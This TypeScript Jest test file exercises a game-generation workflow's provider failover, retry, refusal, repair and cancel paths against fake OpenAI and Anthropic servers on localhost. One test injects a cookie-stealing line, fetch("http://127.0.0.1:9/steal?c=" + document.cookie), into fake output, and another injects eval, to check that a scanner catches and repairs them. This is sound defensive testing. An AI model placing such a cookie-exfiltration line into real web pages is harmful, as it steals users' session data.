// The provider fault matrix, end to end: real workflow, real worker, the real OpenAI and
// Anthropic SDKs talking to fake servers on 127.0.0.1 that inject the faults.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { cancelJob, startJob, type JobDeps } from '../../api/services/jobs.ts';
import type { GameJobResult } from '../../workflows/messages.ts';
import { JOB_PROVIDER, JOB_STATE, JOB_USER_ID } from '../../workflows/searchAttributes.ts';
import { activitySteps } from '../../lib/workflowHistory.ts';
import { connectServices, type Services } from '../helpers/services.ts';
import { startTestWorker, testConfig, type TestWorker } from '../helpers/worker.ts';
import { createUser } from '../helpers/users.ts';
import { waitFor } from '../../scripts/stack/processes.ts';
import {
  FAKE_ANTHROPIC_KEY, FAKE_OPENAI_KEY, fakeGameAnswer, fakeGameHtml, startFakeAnthropic, startFakeOpenAI,
  type FakeLlmServer,
} from '../../fakes/llmServers.ts';

let s: Services;
let openai: FakeLlmServer;
let anthropic: FakeLlmServer;
let llmOnly: TestWorker; // openai → anthropic, no offline fallback
let owner: Awaited<ReturnType<typeof createUser>>;
let jobs: JobDeps;

const caller = () => ({ id: owner.user.id, role: 'user' as const, username: owner.user.username });

async function run(
  prompt = 'a blue platformer with a golden coin', deps = jobs,
): Promise<{ result: GameJobResult; jobId: string; gameId: string }> {
  const { job } = await startJob(deps, caller(), { kind: 'create', prompt });
  const result = (await s.client.workflow.getHandle(job.workflowId!).result()) as GameJobResult;
  return { result, jobId: job.id, gameId: job.gameId! };
}

const versionsOf = (gameId: string) => s.db.models.GameVersion.count({ where: { gameId } });
const attemptsOf = async (jobId: string) =>
  (await s.db.models.ProviderAttempt.findAll({ where: { jobId }, order: [['createdAt', 'ASC']] }))
    .map((a) => `${a.provider}:${a.status}${a.errorClass ? `:${a.errorClass}` : ''}`);

beforeAll(async () => {
  s = await connectServices();
  [openai, anthropic] = await Promise.all([startFakeOpenAI(), startFakeAnthropic()]);
  const cfg = testConfig(s, {
    LLM_PROVIDERS: 'openai,anthropic',
    OPENAI_API_KEY: FAKE_OPENAI_KEY, OPENAI_BASE_URL: openai.baseURL,
    ANTHROPIC_API_KEY: FAKE_ANTHROPIC_KEY, ANTHROPIC_BASE_URL: anthropic.baseURL,
    LLM_TIMEOUT_SECONDS: '20',
  });
  llmOnly = await startTestWorker(s, cfg);
  jobs = { cfg, db: s.db, temporal: s.client };
  owner = await createUser(s);
}, 60_000);

afterAll(async () => {
  await llmOnly?.stop();
  await Promise.all([openai?.close(), anthropic?.close()]);
  await s?.close();
});

beforeEach(() => {
  openai.clear();
  anthropic.clear();
});

/** A fence as it looks in a JSON-encoded request: opened with a random 32-hex boundary, then
 *  the text, and (when `whole`) closed with the same boundary right after it. */
function fenced(name: string, text: string, whole = false): RegExp {
  const open = `<${name} boundary=\\\\"([0-9a-f]{32})\\\\">\\\\n${text}`;
  return new RegExp(whole ? `${open}\\\\n</${name} boundary=\\\\"\\1\\\\">` : open);
}

describe('provider fault matrix', () => {
  it('happy path with OpenAI: one request, a version, tokens recorded', async () => {
    const { result, jobId, gameId } = await run();
    expect(result).toMatchObject({ state: 'completed', provider: 'openai', version: 1 });
    expect(openai.requests).toHaveLength(1);
    expect(anthropic.requests).toHaveLength(0);
    expect(await attemptsOf(jobId)).toEqual(['openai:succeeded']);
    const v = await s.db.models.GameVersion.findOne({ where: { gameId } });
    expect(v?.tokensIn).toBeGreaterThan(0);
    expect(v?.model).toBe('gpt-4.1-mini');
    // The player's words reach the model fenced as data.
    const sent = JSON.stringify(openai.requests[0]!.body);
    expect(sent).toMatch(fenced('player_description', 'a blue platformer with a golden coin', true));
    // Grounded on the library: the engine's reading and the best template with those settings.
    expect(sent).toMatch(fenced('library_reading', 'Platformer from template basic_platformer: player color blue'));
    expect(sent).toContain('\\"player_color\\": \\"#3498db\\"');
  }, 30_000);

  it('happy path with Anthropic (first in its chain)', async () => {
    const cfg = testConfig(s, {
      LLM_PROVIDERS: 'anthropic,openai', OPENAI_API_KEY: FAKE_OPENAI_KEY, OPENAI_BASE_URL: openai.baseURL,
      ANTHROPIC_API_KEY: FAKE_ANTHROPIC_KEY, ANTHROPIC_BASE_URL: anthropic.baseURL,
    });
    const w = await startTestWorker(s, cfg, { scanner: llmOnly.scanner });
    try {
      const { result, jobId } = await run('a racing game', { cfg, db: s.db, temporal: s.client });
      expect(result).toMatchObject({ state: 'completed', provider: 'anthropic' });
      expect(anthropic.requests).toHaveLength(1);
      expect(openai.requests).toHaveLength(0);
      expect(await attemptsOf(jobId)).toEqual(['anthropic:succeeded']);
      // Either model gets the same library reading: the racing template, named as such.
      expect(JSON.stringify(anthropic.requests[0]!.body))
        .toMatch(fenced('library_reading', 'Racing from template basic_racing'));
    } finally {
      await w.stop();
    }
  }, 30_000);

  it('OpenAI 500 three times → Anthropic', async () => {
    openai.setDefault({ kind: 'status', status: 500 });
    const { result, jobId } = await run();
    expect(result).toMatchObject({ state: 'completed', provider: 'anthropic' });
    expect(openai.requests).toHaveLength(3); // Temporal's attempts; the SDK never retried
    expect(await attemptsOf(jobId)).toEqual([
      'openai:failed:retryable', 'openai:failed:retryable', 'openai:failed:retryable', 'anthropic:succeeded',
    ]);
    // What an operator sees in Temporal UI: one activity per provider, and the search attributes.
    const handle = s.client.workflow.getHandle(`job-${jobId}`);
    const history = await handle.fetchHistory();
    // The model calls go through the task queue (retries, heartbeats); the short steps are local.
    const steps = activitySteps(history);
    expect(steps.filter((a) => !a.local).map((a) => a.type)).toEqual(['generateWithOpenAI', 'generateWithAnthropic']);
    expect(steps.filter((a) => a.local && a.type !== 'notify').map((a) => a.type)).toEqual([
      'prepareJob', 'checkDraft', 'storeVersion',
    ]);
    expect(steps.find((a) => a.type === 'generateWithAnthropic')?.ms).toBeGreaterThanOrEqual(0);
    const attrs = (await handle.describe()).typedSearchAttributes;
    expect(attrs.get(JOB_STATE)).toBe('completed');
    expect(attrs.get(JOB_PROVIDER)).toBe('anthropic');
    expect(attrs.get(JOB_USER_ID)).toBe(owner.user.id);
  }, 30_000);

  it('429 with Retry-After is honoured as the next retry delay', async () => {
    openai.script([{ kind: 'status', status: 429, headers: { 'retry-after': '2' } }]);
    const { result } = await run();
    expect(result).toMatchObject({ state: 'completed', provider: 'openai' });
    expect(openai.requests).toHaveLength(2);
    expect(openai.requests[1]!.receivedAt - openai.requests[0]!.receivedAt).toBeGreaterThanOrEqual(1900);
  }, 30_000);

  it('401 → the next provider at once, without retrying the bad key', async () => {
    openai.setDefault({ kind: 'status', status: 401 });
    const started = Date.now();
    const { result, jobId } = await run();
    expect(result).toMatchObject({ state: 'completed', provider: 'anthropic' });
    expect(openai.requests).toHaveLength(1);
    expect(await attemptsOf(jobId)).toEqual(['openai:failed:non_retryable', 'anthropic:succeeded']);
    expect(Date.now() - started).toBeLessThan(8000);
  }, 30_000);

  it('all providers down → failed with a clear reason and no version', async () => {
    openai.setDefault({ kind: 'status', status: 503 });
    anthropic.setDefault({ kind: 'status', status: 401 });
    const { result, gameId } = await run();
    expect(result.state).toBe('failed');
    expect(result.error_code).toBe('all_providers_failed');
    expect(result.detail).toMatch(/openai: .*503.*\| anthropic: .*/i);
    expect(await versionsOf(gameId)).toBe(0);
    const job = await s.db.models.Job.findOne({ where: { gameId } });
    expect(job).toMatchObject({ state: 'failed', errorCode: 'all_providers_failed' });
  }, 40_000);

  it('a safety refusal rejects the job and is not routed to another provider', async () => {
    // Every call refuses, so a refusal retried on the same provider would still end 'rejected':
    // only the count of requests can tell that it was asked once.
    openai.setDefault({ kind: 'refusal', reason: 'I cannot help with that request.' });
    const { result, gameId, jobId } = await run('a game that teaches how to build a weapon');
    expect(result).toMatchObject({ state: 'rejected', error_code: 'safety_refusal' });
    expect(result.detail).toContain('I cannot help with that request.');
    expect(openai.requests).toHaveLength(1);
    expect(await s.db.models.ProviderAttempt.count({ where: { jobId } })).toBe(1);
    expect(anthropic.requests).toHaveLength(0);
    expect(await versionsOf(gameId)).toBe(0);
  }, 30_000);

  it('truncated output is repaired by asking again with the finding', async () => {
    const html = fakeGameHtml('Half Game');
    const half = html.slice(0, Math.floor(html.length / 2));
    openai.script([{ kind: 'truncated', text: `Here you go:\n\`\`\`html\n${half}` }]);
    const { result, jobId } = await run();
    expect(result).toMatchObject({ state: 'completed', provider: 'openai' });
    expect(openai.requests).toHaveLength(2);
    expect(JSON.stringify(openai.requests[1]!.body)).toContain('output.truncated');
    expect((await s.db.models.Job.findByPk(jobId))?.repairRounds).toBe(1);
  }, 30_000);

  it('invalid (unsafe) code is repaired', async () => {
    const unsafe = fakeGameHtml('Evil Game')
      .replace('</script>', 'fetch("http://127.0.0.1:9/steal?c=" + document.cookie);\n</script>');
    openai.script([{ kind: 'ok', text: `\`\`\`html\n${unsafe}\n\`\`\`` }]);
    const { result, gameId } = await run();
    expect(result).toMatchObject({ state: 'completed', provider: 'openai' });
    expect(JSON.stringify(openai.requests[1]!.body)).toMatch(/network|cookie/i);
    const v = await s.db.models.GameVersion.findOne({ where: { gameId } });
    expect(v?.content).not.toContain('fetch(');
  }, 30_000);

  it('repair exhausted → failed with the findings, no version', async () => {
    const bad = `\`\`\`html\n${fakeGameHtml('Bad').replace('</script>', 'eval("1+1");\n</script>')}\n\`\`\``;
    openai.setDefault({ kind: 'ok', text: bad });
    const { result, gameId } = await run();
    expect(result).toMatchObject({ state: 'failed', error_code: 'repair_exhausted' });
    expect(result.findings?.some((f) => f.rule.includes('eval') || f.rule.startsWith('dynamic-code'))).toBe(true);
    expect(openai.requests).toHaveLength(3); // the first draft and two repairs
    expect(await versionsOf(gameId)).toBe(0);
  }, 30_000);

  it('cancel mid-run ends the job cancelled, without a version', async () => {
    openai.setDefault({ kind: 'hang' });
    const { job } = await startJob(jobs, caller(), { kind: 'create', prompt: 'a slow game' });
    await waitFor('the model call', 15, () => openai.requests.length > 0);
    await cancelJob(jobs, job, caller());
    const result = (await s.client.workflow.getHandle(job.workflowId!).result()) as GameJobResult;
    expect(result).toMatchObject({ state: 'cancelled' });
    await job.reload();
    expect(job.state).toBe('cancelled');
    expect(await versionsOf(job.gameId!)).toBe(0);
  }, 30_000);

  it('a change request applies search/replace edits exactly to the base version', async () => {
    const { gameId } = await run();
    const edit = '<<<<<<< SEARCH\n  var W = 480, H = 360, GOAL = 10, SPEED = 220;\n=======\n'
      + '  var W = 480, H = 360, GOAL = 10, SPEED = 330;\n>>>>>>> REPLACE\nSUMMARY: speed 220 → 330';
    openai.script([{ kind: 'ok', text: edit }]);
    const { job } = await startJob(jobs, caller(), { kind: 'modify', gameId, prompt: 'make the player faster' });
    const result = (await s.client.workflow.getHandle(job.workflowId!).result()) as GameJobResult;
    expect(result).toMatchObject({ state: 'completed', version: 2 });
    const sent = JSON.stringify(openai.requests.at(-1)!.body);
    expect(sent).toMatch(fenced('change_request', 'make the player faster', true));
    expect(sent).toContain('(version 1)');
    const v2 = await s.db.models.GameVersion.findOne({ where: { gameId, version: 2 } });
    expect(v2?.content).toContain('SPEED = 330');
    expect(v2?.changeSummary).toBe('speed 220 → 330');
  }, 30_000);

  it('edits that miss are sent back; after two misses the model rewrites the whole file', async () => {
    const { gameId } = await run();
    const miss = {
      kind: 'ok' as const, text: '<<<<<<< SEARCH\nvar NOT_IN_THE_FILE = 1;\n=======\nvar X = 2;\n>>>>>>> REPLACE',
    };
    openai.script([miss, miss]); // then the default answer: a whole game
    const before = openai.requests.length;
    const { job } = await startJob(jobs, caller(), { kind: 'modify', gameId, prompt: 'add a second level' });
    const result = (await s.client.workflow.getHandle(job.workflowId!).result()) as GameJobResult;
    expect(result).toMatchObject({ state: 'completed', version: 2 });
    const prompts = openai.requests.slice(before).map((r) => JSON.stringify(r.body));
    expect(prompts).toHaveLength(3);
    expect(prompts[1]).toContain('edit.no-match');
    expect(prompts[2]).toContain('Rewrite the current game');
    expect((await job.reload()).repairRounds).toBe(2);
  }, 30_000);

  it('the default answer is a real game (sanity of the fake)', () => {
    expect(fakeGameAnswer('X')).toContain('requestAnimationFrame');
  });
});
